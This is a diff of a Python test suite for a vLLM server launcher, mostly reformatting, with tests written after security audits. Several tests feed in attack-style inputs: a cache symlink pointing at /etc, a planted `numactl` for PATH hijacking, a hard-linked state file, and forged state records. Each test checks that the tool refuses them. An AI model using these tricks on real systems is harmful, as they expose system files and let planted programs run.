@@ -1,4 +1,5 @@
 """launch.py start: it launches exactly the plan, records its server, and leaves nothing unnamed."""
+
 import json
 import os
 import re
@@ -36,13 +37,18 @@ from epyc import (
 from epyc.errors import ScriptError
 
 
-def test_handoff_gives_only_a_running_server_that_passed_its_last_verify(script, tmp_path, inputs,  # noqa: F811
-                                                                         live_tune):  # noqa: F811
+def test_handoff_gives_only_a_running_server_that_passed_its_last_verify(
+    script,
+    tmp_path,
+    inputs,
+    live_tune,
+):
     """Left by the fifth audit: handoff after a failed verify handed the user an endpoint that did not work."""
     plan_file, _ = host_plan(tmp_path, inputs, live_tune)
 
     def handoff():
         return script("launch.py", "handoff", "--plan", str(plan_file))
+
     assert "no server from this plan is running" in handoff().doc["error"]
     server_mode(tmp_path, "wrong_model")
     try:
@@ -73,9 +79,10 @@ def test_handoff_gives_only_a_running_server_that_passed_its_last_verify(script,
         script("launch.py", "stop", "--plan", str(plan_file))
 
 
-def test_a_runtime_whose_logs_never_end_fills_no_memory(script, inputs, rt, tmp_path):  # noqa: F811
+def test_a_runtime_whose_logs_never_end_fills_no_memory(script, inputs, rt, tmp_path):
     """The host path reads the log's last 256 KiB; the container path read `docker logs --tail 40` whole."""
     from conftest import container_plan
+
     d, env = rt
     plan_file, _ = container_plan(script, inputs, rt, tmp_path)
     assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
@@ -87,11 +94,17 @@ def test_a_runtime_whose_logs_never_end_fills_no_memory(script, inputs, rt, tmp_
     assert sum(map(len, r.doc["log_tail"])) <= 40 * 1000 + 200  # each line shown on its first 1000 characters
 
 
-def test_programs_are_never_found_through_the_current_folder(script, tmp_path, inputs, live_tune,  # noqa: F811
-                                                            monkeypatch):
+def test_programs_are_never_found_through_the_current_folder(
+    script,
+    tmp_path,
+    inputs,
+    live_tune,
+    monkeypatch,
+):
     """PATH='' or '.': a `numactl` in the folder start runs from would have run instead of the system one
     (the summary says `numactl`); with no numactl at all start was an internal error."""
     import os
+
     plan_file, plan = host_plan(tmp_path, inputs, live_tune)
     program = plan["argv"][0]
     assert not program.startswith("/")  # numactl or taskset, as the summary shows it
@@ -104,14 +117,16 @@ def test_programs_are_never_found_through_the_current_folder(script, tmp_path, i
         assert r.code == 1 and "not in any absolute folder of PATH" in r.doc["error"], r.doc
         assert not (tmp_path / "planted-ran").exists()
     from epyc import subproc
+
     assert subproc.find_program("sh", {"PATH": f".:{os.path.dirname(subproc.find_program('sh'))}"}).startswith("/")
     assert subproc.run(["ls"], timeout=10, env={"PATH": "."}).failure == "not_found"
 
 
-def test_a_container_kernel_log_is_streamed_not_held(script, inputs, rt, tmp_path):  # noqa: F811
+def test_a_container_kernel_log_is_streamed_not_held(script, inputs, rt, tmp_path):
     """kernel_proof read `docker logs` whole (one string and a list of its lines: 9 GB for a 3 GB log)."""
 
     from conftest import container_plan
+
     d, env = rt
     plan_file, _ = container_plan(script, inputs, rt, tmp_path)
     assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
@@ -121,8 +136,9 @@ def test_a_container_kernel_log_is_streamed_not_held(script, inputs, rt, tmp_pat
     assert max_rss_kb < 150_000, f"{max_rss_kb} KB for a 100 MB log"
 
 
-def test_a_runtime_that_never_exits_after_its_log_is_a_clear_error(script, inputs, rt, tmp_path):  # noqa: F811
+def test_a_runtime_that_never_exits_after_its_log_is_a_clear_error(script, inputs, rt, tmp_path):
     from conftest import container_plan
+
     d, env = rt
     plan_file, _ = container_plan(script, inputs, rt, tmp_path)
     assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
@@ -133,9 +149,10 @@ def test_a_runtime_that_never_exits_after_its_log_is_a_clear_error(script, input
     assert time.monotonic() - t0 < 60
 
 
-def test_a_container_logs_error_shows_the_start_of_a_long_last_line(script, inputs, rt, tmp_path):  # noqa: F811
+def test_a_container_logs_error_shows_the_start_of_a_long_last_line(script, inputs, rt, tmp_path):
     """F5: the error showed the end of a line cut at 64 KiB: a URL's password before its '@'."""
     from epyc.kernels import LINE_READ_CHARS
+
     d, env = rt
     plan_file, _ = container_plan(script, inputs, rt, tmp_path)
     assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
@@ -145,7 +162,7 @@ def test_a_container_logs_error_shows_the_start_of_a_long_last_line(script, inpu
     assert r.code == 1 and "Error: xxx" in r.doc["error"] and "OtherPass" not in r.stdout, r.doc
 
 
-def test_a_cache_that_became_a_link_is_refused_at_plan_and_at_start(script, inputs, rt, tmp_path):  # noqa: F811
+def test_a_cache_that_became_a_link_is_refused_at_plan_and_at_start(script, inputs, rt, tmp_path):
     """F1: a path linking to /etc, written into validate.json or made a link after plan, was mounted (the
     runtime follows links): the folder must be, now, at the very path validate recorded."""
     link = tmp_path / "lnk-etc"
@@ -162,7 +179,7 @@ def test_a_cache_that_became_a_link_is_refused_at_plan_and_at_start(script, inpu
 
 
 # ---- eighteenth audit (88 cases, 7 findings), on the seventeenth's fixes
-def test_stop_works_after_the_hub_cache_changed_under_a_running_server(script, inputs, rt, tmp_path):  # noqa: F811
+def test_stop_works_after_the_hub_cache_changed_under_a_running_server(script, inputs, rt, tmp_path):
     """F1: every verb re-rendered the plan with the cache's content as it is now: a Gradio folder made after
     start made stop refuse the plan, and the container could not be stopped with the tool. Only start
     looks at the disk again; the phase named is the verb's."""
@@ -179,39 +196,57 @@ def test_stop_works_after_the_hub_cache_changed_under_a_running_server(script, i
     assert again.code == 1 and "'gradio'" in again.doc["error"] and again.doc["phase"] == "start", again.doc
 
 
-def test_stop_and_bench_act_on_a_plan_whose_model_folder_moved(script, inputs, rt, tmp_path):  # noqa: F811
+def test_stop_and_bench_act_on_a_plan_whose_model_folder_moved(script, inputs, rt, tmp_path):
     """F2, F3a: verbs other than start re-rendered with the model folder as the disk holds it now: a folder
     moved under a running container made stop refuse the plan (the container ran on). They take it, and
     the cache, from the plan; bench too, and a refusal names bench's phase."""
     import shutil
+
     cache = tmp_path / "hub"
     plan_file = _planned_with_a_cache(script, inputs, rt, tmp_path, cache)
     plan = json.loads(plan_file.read_text())
-    assert plan["model_dir"] and script("launch.py", "start", "--plan", str(plan_file), "--confirm",
-                                        env=rt[1]).code == 0
+    assert (
+        plan["model_dir"] and script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=rt[1]).code == 0
+    )
     shutil.move(plan["model_dir"], plan["model_dir"] + "-moved")
     (cache / "notes.txt").write_text("x")
-    b = script("bench.py", "--plan", str(plan_file), "--input-lens", "16", "--concurrency", "1", "--repeats", "1",
-               "--out", str(tmp_path / "bench"), env=rt[1], timeout=120)
+    b = script(
+        "bench.py",
+        "--plan",
+        str(plan_file),
+        "--input-lens",
+        "16",
+        "--concurrency",
+        "1",
+        "--repeats",
+        "1",
+        "--out",
+        str(tmp_path / "bench"),
+        env=rt[1],
+        timeout=120,
+    )
     assert "differs" not in b.stdout and "Hugging Face" not in b.stdout, b.doc
     s = script("launch.py", "stop", "--plan", str(plan_file), env=rt[1])
     assert s.code == 0 and s.doc["stopped"], s.doc
 
 
 # ---- twentieth audit (~50 cases, 4 findings), on the nineteenth's fixes
-def test_bench_compare_looks_at_the_disk_as_start_does(script, inputs, rt, tmp_path):  # noqa: F811
+def test_bench_compare_looks_at_the_disk_as_start_does(script, inputs, rt, tmp_path):
     """F1: bench's plan check trusts the plan's model folder (for a running server), but --compare starts
     servers: a model link moved since the plan made it serve a folder nobody confirmed. It is refused now."""
     import shutil
 
     from conftest import plan_args
+
     real = Path(inputs["model"])
     v1, v2, link = tmp_path / "v1", tmp_path / "v2", tmp_path / "current"
     shutil.copytree(real, v1)
     shutil.copytree(real, v2)
     link.symlink_to(v1)
-    for name, script_name, args in (("check", "check_model.py", ["--vllm-version", "0.25.1"]),
-                                    ("estimate", "estimate_memory.py", ["--ram-gb", "384"])):
+    for name, script_name, args in (
+        ("check", "check_model.py", ["--vllm-version", "0.25.1"]),
+        ("estimate", "estimate_memory.py", ["--ram-gb", "384"]),
+    ):
         r = script(script_name, "--model", str(link), *args, env=rt[1])
         Path(inputs[name]).write_text(r.stdout)
     r = script("launch.py", *plan_args(inputs, "--state-dir", str(tmp_path / "st")), env=rt[1])
@@ -220,14 +255,28 @@ def test_bench_compare_looks_at_the_disk_as_start_does(script, inputs, rt, tmp_p
     plan_file.write_text(r.stdout)
     link.unlink()
     link.symlink_to(v2)
-    b = script("bench.py", "--plan", str(plan_file), "--compare", "--input-lens", "16", "--concurrency", "1",
-               "--repeats", "1", "--out", str(tmp_path / "cmp"), env=rt[1], timeout=120)
+    b = script(
+        "bench.py",
+        "--plan",
+        str(plan_file),
+        "--compare",
+        "--input-lens",
+        "16",
+        "--concurrency",
+        "1",
+        "--repeats",
+        "1",
+        "--out",
+        str(tmp_path / "cmp"),
+        env=rt[1],
+        timeout=120,
+    )
     # refused as reading another folder than the one checked (twenty-second audit), before any comparison
     assert b.code == 1 and f"check_model.py read {v1}" in b.doc["error"] and str(v2) in b.doc["error"], b.doc
     assert b.doc["phase"] == "bench" and not any(c["argv"][0] == "run" for c in calls(rt[0]))
 
 
-def test_verbs_take_the_model_folder_start_served_not_an_edited_plans(script, inputs, rt, tmp_path):  # noqa: F811
+def test_verbs_take_the_model_folder_start_served_not_an_edited_plans(script, inputs, rt, tmp_path):
     """F3: a model_dir edited with the argv to match passed every verb but start; handoff then named a
     model the server does not list. start records the folder it served; the other verbs render with it."""
     plan_file = _planned_with_a_cache(script, inputs, rt, tmp_path, tmp_path / "hub")
@@ -238,6 +287,7 @@ def test_verbs_take_the_model_folder_start_served_not_an_edited_plans(script, in
         planfile,
     )
     from epyc.bundle import load_epyc
+
     forged = json.loads(plan_file.read_text())
     forged["model_dir"] = str(tmp_path)
     fresh = planfile.rerender(forged, load_epyc(), env_from_plan=True, phase="handoff")
@@ -246,7 +296,7 @@ def test_verbs_take_the_model_folder_start_served_not_an_edited_plans(script, in
 
 
 # ---- the twenty-first audit
-def test_an_interrupted_container_start_removes_what_it_launched(script, inputs, rt, tmp_path):  # noqa: F811
+def test_an_interrupted_container_start_removes_what_it_launched(script, inputs, rt, tmp_path):
     """F1: a signal during `docker run` (the engine may start the container anyway) left a server and its
     key file with no state: verify said nothing was started, and the fix said to run start again."""
     import signal
@@ -254,12 +304,17 @@ def test_an_interrupted_container_start_removes_what_it_launched(script, inputs,
     import time
 
     from conftest import SECRET, calls, container_plan
+
     d, env = rt
     plan_file, plan = container_plan(script, inputs, rt, tmp_path, HF_TOKEN=SECRET)
     (d / "run_hang").touch()
-    proc = subprocess.Popen([sys.executable, str(ROOT / "scripts" / "launch.py"), "start", "--plan", str(plan_file),
-                             "--confirm"], env={**os.environ, **env, "HF_TOKEN": SECRET}, stdout=subprocess.PIPE,
-                            stderr=subprocess.DEVNULL, text=True)
+    proc = subprocess.Popen(
+        [sys.executable, str(ROOT / "scripts" / "launch.py"), "start", "--plan", str(plan_file), "--confirm"],
+        env={**os.environ, **env, "HF_TOKEN": SECRET},
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        text=True,
+    )
     deadline = time.monotonic() + 60
     while time.monotonic() < deadline and not [c for c in calls(d) if c["argv"][:1] == ["run"]]:
         time.sleep(0.1)
@@ -273,9 +328,10 @@ def test_an_interrupted_container_start_removes_what_it_launched(script, inputs,
     assert not (tmp_path / "st" / "secrets" / "HF_TOKEN").exists() and not (tmp_path / "st" / "state.json").exists()
 
 
-def test_a_hard_linked_state_file_is_refused_before_the_server_is_launched(script, inputs, live_tune, tmp_path):  # noqa: F811
+def test_a_hard_linked_state_file_is_refused_before_the_server_is_launched(script, inputs, live_tune, tmp_path):
     """F2: the state file's hard-link refusal came after Popen: the server ran and no state named it."""
     from conftest import host_plan
+
     plan_file, plan = host_plan(tmp_path, inputs, live_tune)
     Path(plan["state_dir"]).mkdir(parents=True)
     victim = tmp_path / "victim.txt"
@@ -286,19 +342,24 @@ def test_a_hard_linked_state_file_is_refused_before_the_server_is_launched(scrip
     assert not Path(plan["log_file"]).exists() and victim.read_text() == "keep me\n"  # nothing was launched
 
 
-def test_a_container_start_that_cannot_remove_what_it_launched_says_so(script, inputs, rt, tmp_path):  # noqa: F811
+def test_a_container_start_that_cannot_remove_what_it_launched_says_so(script, inputs, rt, tmp_path):
     """F3: the clean-up's `rm` result was ignored: with the daemon gone quiet, start said it removed the
     container while it ran on with no state naming it."""
     import signal
     import subprocess
 
     from conftest import calls, container_plan
+
     d, env = rt
     plan_file, plan = container_plan(script, inputs, rt, tmp_path)
     (d / "run_hang").touch()
-    proc = subprocess.Popen([sys.executable, str(ROOT / "scripts" / "launch.py"), "start", "--plan", str(plan_file),
-                             "--confirm"], env={**os.environ, **env}, stdout=subprocess.PIPE,
-                            stderr=subprocess.DEVNULL, text=True)
+    proc = subprocess.Popen(
+        [sys.executable, str(ROOT / "scripts" / "launch.py"), "start", "--plan", str(plan_file), "--confirm"],
+        env={**os.environ, **env},
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        text=True,
+    )
     deadline = time.monotonic() + 60
     while time.monotonic() < deadline and not [c for c in calls(d) if c["argv"][:1] == ["run"]]:
         time.sleep(0.1)
@@ -312,7 +373,7 @@ def test_a_container_start_that_cannot_remove_what_it_launched_says_so(script, i
 
 # ---- the twenty-fifth audit (2026-12-03, ~1,290 cases, 1,125 of them forged states: 4 findings, 3 notes;
 # the engine ones are in tests/test_docker_engine.py)
-def test_start_and_bench_refuse_a_relative_hub_cache_the_server_would_read(script, inputs, live_tune, tmp_path):  # noqa: F811
+def test_start_and_bench_refuse_a_relative_hub_cache_the_server_would_read(script, inputs, live_tune, tmp_path):
     """F4: validate and the Hub reads refused a relative HF_HOME, but start passed it on to the host server,
     which would have looked for (and downloaded) the model under start's own folder."""
     plan_file, plan = host_plan(tmp_path, inputs, live_tune)
@@ -323,7 +384,7 @@ def test_start_and_bench_refuse_a_relative_hub_cache_the_server_would_read(scrip
     assert b.code == 1 and "HF_HOME is empty" in b.doc["error"], b.doc
 
 
-def test_stop_never_takes_down_a_container_its_state_dir_did_not_start(script, inputs, rt, tmp_path):  # noqa: F811
+def test_stop_never_takes_down_a_container_its_state_dir_did_not_start(script, inputs, rt, tmp_path):
     """Noted since the twenty-fourth: a container's name is one per port, not per state dir. Plan B (same
     port, its own state dir, nothing started) stopped plan A's container by that name; and a plan whose
     container another start had replaced stopped the newcomer. stop now asks the engine for the container's
@@ -343,8 +404,23 @@ def test_stop_never_takes_down_a_container_its_state_dir_did_not_start(script, i
     assert r.code == 1 and "is running (id ffffffffffff)" in r.doc["error"] and "no record of" in r.doc["error"], r.doc
     assert not any(c["argv"][0] in ("stop", "rm", "run") for c in calls(d)[before:])
     # and a bench --compare of B reports each sizing not served, never stopping A's container
-    r = script("bench.py", "--plan", str(b_file), "--compare", "--input-lens", "16", "--concurrency", "1",
-               "--repeats", "1", "--no-bandwidth", "--out", str(tmp_path / "cmp"), env=env, timeout=300)
+    r = script(
+        "bench.py",
+        "--plan",
+        str(b_file),
+        "--compare",
+        "--input-lens",
+        "16",
+        "--concurrency",
+        "1",
+        "--repeats",
+        "1",
+        "--no-bandwidth",
+        "--out",
+        str(tmp_path / "cmp"),
+        env=env,
+        timeout=300,
+    )
     assert r.code == 1 and "no sizing could be served" in r.doc["error"] and "its stop" in r.doc["fix"], r.doc
     assert not any(c["argv"][0] in ("stop", "rm", "run") for c in calls(d)[before:])
     # another start replaced A's container under the same name (A's own is gone): A's stop leaves it alone
@@ -363,9 +439,7 @@ def test_stop_never_takes_down_a_container_its_state_dir_did_not_start(script, i
     assert r.code == 0 and r.doc["stopped"] is True, r.doc
 
 
-
-
-def test_a_start_while_another_up_holds_the_folder_is_refused(script, inputs, live_tune, tmp_path):  # noqa: F811
+def test_a_start_while_another_up_holds_the_folder_is_refused(script, inputs, live_tune, tmp_path):
     """Twenty-sixth audit, F1: a plain start of an older plan in a folder where an up ran its steps started a
     server, and up's plan.json, written next, named another: no plan could stop it. start refuses while
     another process holds .up.lock (up's own start holds it in the same process: not refused)."""
@@ -379,7 +453,7 @@ def test_a_start_while_another_up_holds_the_folder_is_refused(script, inputs, li
     assert script("launch.py", "stop", "--plan", str(plan_file)).doc["stopped"] is True
 
 
-def test_a_start_while_stop_waits_for_the_server_is_refused_not_orphaned(script, inputs, live_tune, tmp_path):  # noqa: F811
+def test_a_start_while_stop_waits_for_the_server_is_refused_not_orphaned(script, inputs, live_tune, tmp_path):
     """Twenty-sixth audit, F2: stop held no lock; a start that came in while the server took its time to exit
     wrote its state, and stop then removed that state: a new server ran, named by nothing. stop now holds
     .lock for its whole run. (The fake server's slow_term mode takes 3 s to exit on SIGTERM.)"""
@@ -388,12 +462,18 @@ def test_a_start_while_stop_waits_for_the_server_is_refused_not_orphaned(script,
         serve_state,
         serve_stop,
     )
+
     plan_file, plan = host_plan(tmp_path, inputs, live_tune)
     (Path(plan["argv"][next(k for k, a in enumerate(plan["argv"]) if a.endswith("/vllm"))]).parent / "mode").write_text(
-        "slow_term")
+        "slow_term"
+    )
     assert script("launch.py", "start", "--plan", str(plan_file), "--confirm").code == 0
-    stopping = subprocess.Popen([sys.executable, str(ROOT / "scripts" / "launch.py"), "stop", "--plan", str(plan_file)],
-                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    stopping = subprocess.Popen(
+        [sys.executable, str(ROOT / "scripts" / "launch.py"), "stop", "--plan", str(plan_file)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
     try:
         time.sleep(1.5)  # SIGTERM sent; the server still exiting
         r = script("launch.py", "start", "--plan", str(plan_file), "--confirm")
@@ -407,11 +487,12 @@ def test_a_start_while_stop_waits_for_the_server_is_refused_not_orphaned(script,
         serve_stop.stop(plan)
 
 
-def test_a_start_whose_run_meets_another_plans_container_leaves_it_running(script, inputs, rt, tmp_path):  # noqa: F811
+def test_a_start_whose_run_meets_another_plans_container_leaves_it_running(script, inputs, rt, tmp_path):
     """Twenty-eighth audit, F1: another plan's start on this port (its own state dir) made its container while
     ours pulled; our `run` failed on the name, and its clean-up removed that container by name, ending a
     verified server. A `run` refused on the name created nothing of ours: nothing is removed."""
     from conftest import calls
+
     d, env = rt
     plan_file, plan = container_plan(script, inputs, rt, tmp_path)
     (d / "pull_creates").write_text(plan["container_name"])
@@ -420,12 +501,12 @@ def test_a_start_whose_run_meets_another_plans_container_leaves_it_running(scrip
     assert r.code == 1 and "another container took the name" in r.doc["error"], r.doc
     assert r.doc["phase"] == "start" and "another port" in r.doc["fix"]
     made = [c["argv"][0] for c in calls(d)[before:]]
-    assert made[-2:] == ["pull", "run"] and "rm" not in made[made.index("pull"):], made  # theirs is left alone
+    assert made[-2:] == ["pull", "run"] and "rm" not in made[made.index("pull") :], made  # theirs is left alone
     assert (d / f"created-{plan['container_name']}").read_text() == "a" * 64
     assert not (d / f"removed-{plan['container_name']}").exists() and not (tmp_path / "st" / "state.json").exists()
 
 
-def test_a_state_file_start_did_not_write_names_no_server(script, inputs, rt, tmp_path):  # noqa: F811
+def test_a_state_file_start_did_not_write_names_no_server(script, inputs, rt, tmp_path):
     """A note of the twenty-eighth audit (and the twenty-ninth's F1): state.json replaced by `{}`, or by a
     container's name without the id every start records, was taken as a
     state: verify wrote its pass into it, handoff handed the server off, and stop acted on the container
@@ -435,9 +516,13 @@ def test_a_state_file_start_did_not_write_names_no_server(script, inputs, rt, tm
     assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
     state_file = tmp_path / "st" / "state.json"
     name = plan["container_name"]  # and (the twenty-ninth's F1) a container state of a name and no id of a start
-    for edited in ({}, {"primary_endpoint": "chat_completions", "verified_at": time.time()}, {"path": "container"},
-                   {"path": "container", "container_name": name, "verified_at": time.time()},
-                   *({"path": "container", "container_name": name, "container_id": bad} for bad in ("", "zzzz", 12345))):
+    for edited in (
+        {},
+        {"primary_endpoint": "chat_completions", "verified_at": time.time()},
+        {"path": "container"},
+        {"path": "container", "container_name": name, "verified_at": time.time()},
+        *({"path": "container", "container_name": name, "container_id": bad} for bad in ("", "zzzz", 12345)),
+    ):
         state_file.write_text(json.dumps(edited))
         v = script("launch.py", "verify", "--plan", str(plan_file), "--timeout", "5", env=env)
         assert v.code == 1 and "nothing was started from this plan" in v.doc["error"], (edited, v.doc)
@@ -448,13 +533,14 @@ def test_a_state_file_start_did_not_write_names_no_server(script, inputs, rt, tm
         assert json.loads(state_file.read_text()) == edited
 
 
-def test_a_first_start_cannot_slip_in_while_stop_runs(inputs, live_tune, tmp_path, monkeypatch):  # noqa: F811
+def test_a_first_start_cannot_slip_in_while_stop_runs(inputs, live_tune, tmp_path, monkeypatch):
     """A note of the twenty-eighth audit: stop took no lock in a state dir without `.lock` (no start had
     run there yet), so a first start during it was recorded and then had its state removed by stop. stop
     makes the lock file now and holds it: the start is refused until stop is done."""
     from epyc import (
         serve_stop,
     )
+
     plan_file, plan = host_plan(tmp_path, inputs, live_tune)
     Path(plan["state_dir"]).mkdir(parents=True, exist_ok=True)
     assert not (Path(plan["state_dir"]) / ".lock").exists()
@@ -464,6 +550,7 @@ def test_a_first_start_cannot_slip_in_while_stop_runs(inputs, live_tune, tmp_pat
     def stop_with_a_start_arriving(p):
         seen["start"] = run_script("launch.py", "start", "--plan", str(plan_file), "--confirm", timeout=120)
         return real(p)
+
     monkeypatch.setattr(serve_stop, "_stop_locked", stop_with_a_start_arriving)
     assert serve_stop.stop(plan)["stopped"] is False
     start = seen["start"]
@@ -471,7 +558,7 @@ def test_a_first_start_cannot_slip_in_while_stop_runs(inputs, live_tune, tmp_pat
     assert not Path(plan["state_file"]).exists()
 
 
-def test_up_reports_verifys_failure_when_its_own_stop_is_refused(script, inputs, rt, tmp_path, monkeypatch):  # noqa: F811
+def test_up_reports_verifys_failure_when_its_own_stop_is_refused(script, inputs, rt, tmp_path, monkeypatch):
     """Twenty-ninth audit, F2: up stops what it started when verify fails; once stop could refuse (a runtime
     that does not say which container has the name), its refusal replaced verify's verdict, with no plan
     file and nothing saying the server may still run. Verify's failure stays the error now, with the
@@ -480,6 +567,7 @@ def test_up_reports_verifys_failure_when_its_own_stop_is_refused(script, inputs,
         up,
     )
     from epyc.errors import ScriptError
+
     d, env = rt
     plan_file, plan = container_plan(script, inputs, rt, tmp_path)
     assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
@@ -496,7 +584,7 @@ def test_up_reports_verifys_failure_when_its_own_stop_is_refused(script, inputs,
     assert (tmp_path / "st" / "state.json").exists()  # the running server stays named
 
 
-def test_start_records_the_containers_id_even_when_run_does_not_print_it(script, inputs, rt, tmp_path):  # noqa: F811
+def test_start_records_the_containers_id_even_when_run_does_not_print_it(script, inputs, rt, tmp_path):
     """A state names its container by id (the twenty-ninth's F1: by name alone it could be anyone's). A
     `run` that printed something else has the id asked of the runtime; none at all is a failed start."""
     d, env = rt
@@ -512,7 +600,7 @@ def test_start_records_the_containers_id_even_when_run_does_not_print_it(script,
     assert (d / f"removed-{plan['container_name']}").exists() and not (tmp_path / "st" / "state.json").exists()
 
 
-def test_a_runtime_that_does_not_answer_is_never_read_as_a_server_that_exited(script, inputs, rt, tmp_path):  # noqa: F811
+def test_a_runtime_that_does_not_answer_is_never_read_as_a_server_that_exited(script, inputs, rt, tmp_path):
     """The review of the twenty-eighth's fixes: an `inspect` that did not answer read as "not running": verify
     failed a healthy server as "exited" (and up then stopped it), handoff called it gone, and start or up
     could write over the state of a server that may run. Now verify asks again on its next poll, handoff
@@ -520,6 +608,7 @@ def test_a_runtime_that_does_not_answer_is_never_read_as_a_server_that_exited(sc
     from epyc import (
         serve_state,
     )
+
     d, env = rt
     plan_file, plan = container_plan(script, inputs, rt, tmp_path)
     assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
@@ -535,11 +624,12 @@ def test_a_runtime_that_does_not_answer_is_never_read_as_a_server_that_exited(sc
     assert script("launch.py", "stop", "--plan", str(plan_file), env=env).doc["stopped"] is True
 
 
-def test_a_refused_run_leaves_a_running_container_of_its_name_alone(script, inputs, rt, tmp_path):  # noqa: F811
+def test_a_refused_run_leaves_a_running_container_of_its_name_alone(script, inputs, rt, tmp_path):
     """The review of the twenty-eighth's fixes: docker checks a run's cpusets and mounts before it takes the
     name, so a run refused so (not on the name) created nothing, and the running container of its name,
     made by another plan's start during our pull, was removed by the clean-up. It is left alone."""
     from conftest import calls
+
     d, env = rt
     plan_file, plan = container_plan(script, inputs, rt, tmp_path)
     (d / "pull_creates").write_text(plan["container_name"])
@@ -549,10 +639,10 @@ def test_a_refused_run_leaves_a_running_container_of_its_name_alone(script, inpu
     assert r.code == 1 and "cgroup controller `cpuset`" in r.doc["error"], r.doc
     assert "is not this start's: left alone" in r.doc["error"]
     made = [c["argv"][0] for c in calls(d)[before:]]
-    assert "rm" not in made[made.index("run"):] and not (d / f"removed-{plan['container_name']}").exists(), made
+    assert "rm" not in made[made.index("run") :] and not (d / f"removed-{plan['container_name']}").exists(), made
 
 
-def test_a_log_found_in_the_state_dir_is_0600_after_start(script, tmp_path, inputs, live_tune):  # noqa: F811
+def test_a_log_found_in_the_state_dir_is_0600_after_start(script, tmp_path, inputs, live_tune):
     plan_file, plan = host_plan(tmp_path, inputs, live_tune)
     Path(plan["state_dir"]).mkdir(parents=True)
     Path(plan["log_file"]).write_text("an old run's line\n")
@@ -566,7 +656,7 @@ def test_a_log_found_in_the_state_dir_is_0600_after_start(script, tmp_path, inpu
 
 
 # ---- F2: start's leftover removal ran by name even when the runtime had shown no container
-def test_start_removes_only_an_exited_leftover_and_by_its_id(script, inputs, rt, tmp_path):  # noqa: F811
+def test_start_removes_only_an_exited_leftover_and_by_its_id(script, inputs, rt, tmp_path):
     """A slow daemon held one start's `rm -f NAME` while another plan's start on the port ran its container:
     the late rm ended that server. start removes nothing when inspect showed no container, and a leftover
     only by the id inspect gave."""
@@ -589,7 +679,7 @@ def test_start_removes_only_an_exited_leftover_and_by_its_id(script, inputs, rt,
     assert removals == [["rm", "-f", "c" * 64]], removals
 
 
-def test_stop_stops_and_removes_the_container_by_the_id_it_judged(script, inputs, rt, tmp_path):  # noqa: F811
+def test_stop_stops_and_removes_the_container_by_the_id_it_judged(script, inputs, rt, tmp_path):
     d, env = rt
     plan_file, plan = container_plan(script, inputs, rt, tmp_path)
     assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
@@ -606,7 +696,7 @@ def test_stop_stops_and_removes_the_container_by_the_id_it_judged(script, inputs
     assert [c["argv"][0] for c in calls(d)[before:]] == ["inspect"] and not Path(plan["state_file"]).exists()
 
 
-def test_a_refused_run_that_made_nothing_removes_nothing(script, inputs, rt, tmp_path):  # noqa: F811
+def test_a_refused_run_that_made_nothing_removes_nothing(script, inputs, rt, tmp_path):
     """The review of the fixes: after a `run` refused on a cpuset or a mount (docker creates nothing), the
     clean-up still ran `rm -f NAME`: the same late removal by name the audit found before `run`."""
     d, env = rt
@@ -620,24 +710,40 @@ def test_a_refused_run_that_made_nothing_removes_nothing(script, inputs, rt, tmp
     assert not (Path(plan["state_dir"]) / "secrets" / "HF_TOKEN").exists()  # the key file goes with it
 
 
-def test_verify_refuses_to_record_a_pass_over_a_state_that_changed_while_it_ran(script, inputs, rt, tmp_path):  # noqa: F811
+def test_verify_refuses_to_record_a_pass_over_a_state_that_changed_while_it_ran(script, inputs, rt, tmp_path):
     """verify itself, not only its helper: the state is rewritten (another start's) while verify polls."""
     from epyc import serve_state
+
     d, env = rt
     plan_file, plan = free_port_plan(script, inputs, rt, tmp_path)
     assert script("launch.py", "start", "--plan", str(plan_file), "--confirm", env=env).code == 0
     full_env = {**os.environ, **env, "PYTHONWARNINGS": "error::ResourceWarning"}
-    verify = subprocess.Popen([sys.executable, str(ROOT / "scripts" / "launch.py"), "verify", "--plan",
-                               str(plan_file), "--timeout", "60"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
-                              text=True, env=full_env)
+    verify = subprocess.Popen(
+        [sys.executable, str(ROOT / "scripts" / "launch.py"), "verify", "--plan", str(plan_file), "--timeout", "60"],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env=full_env,
+    )
     server = None
     try:
         time.sleep(3)  # verify is polling /health: nothing listens yet
         newer = {**serve_state.read_state(plan), "started_at": time.time()}  # another start's run of the container
         serve_state.write_state(plan, newer)
-        server = subprocess.Popen([sys.executable, str(FAKE_SERVER), "--port", str(plan["port"]), "--delay", "0",
-                                   "--served-model-name", plan["served_model_name"]],
-                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        server = subprocess.Popen(
+            [
+                sys.executable,
+                str(FAKE_SERVER),
+                "--port",
+                str(plan["port"]),
+                "--delay",
+                "0",
+                "--served-model-name",
+                plan["served_model_name"],
+            ],
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
         out, err = verify.communicate(timeout=120)
     finally:
         verify.kill()
@@ -651,7 +757,7 @@ def test_verify_refuses_to_record_a_pass_over_a_state_that_changed_while_it_ran(
     assert script("launch.py", "stop", "--plan", str(plan_file), env=env).doc["stopped"] is True
 
 
-def test_verify_says_a_stop_while_it_waited_is_a_stop_not_a_crash(script, inputs, rt, tmp_path):  # noqa: F811
+def test_verify_says_a_stop_while_it_waited_is_a_stop_not_a_crash(script, inputs, rt, tmp_path):
     """F7: `launch.py stop` while verify polled made verify say "the server process exited before it became
     healthy" (SKILL.md: report, do not retry). Once the stop is done, state.json records no run: verify says
     the server was stopped while it waited. A server that dies by itself is still the crash (second half)."""
